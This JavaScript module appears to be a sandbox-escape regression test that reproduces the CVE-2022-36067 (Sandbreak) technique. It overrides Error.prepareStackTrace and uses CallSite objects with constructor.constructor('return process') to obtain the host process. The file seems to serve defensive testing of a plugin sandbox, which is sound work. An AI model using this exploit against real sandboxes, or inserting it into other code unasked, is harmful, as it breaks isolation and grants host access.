// Escape attempt: CVE-2022-36067 (Sandbreak, GHSA-mpg4-rc92-vx8v): Error.prepareStackTrace receives CallSites whose getThis/getFunction may be host objects.
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-prepare-stack-trace',
  description: 'sandbox escape attempt: prepare-stack-trace',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    Error.prepareStackTrace = (e, frames) => {
      for (const f of frames) {
        attempt(notes, "getThis", () => { const t = f.getThis(); if (t) pwn(t.constructor.constructor("return process")(), marker, notes, "CallSite.getThis"); });
        attempt(notes, "getFunction", () => { const fn = f.getFunction(); if (fn) pwn(fn.constructor("return process")(), marker, notes, "CallSite.getFunction"); });
      }
      return "x";
    };
    attempt(notes, "local", () => new Error("a").stack);
    attempt(notes, "host error", () => { __send({ toString() { throw new Error("b"); } }); });
    try { await ctx.redis("no-such-service", "PING"); } catch (e) { attempt(notes, "ctx error", () => e.stack); }
    attempt(notes, "stack frames", () => { const frames = []; Error.captureStackTrace(frames); frames.stack; });
    Error.prepareStackTrace = undefined;
    return { summary: notes.join(' | '), data: notes };
  },
};
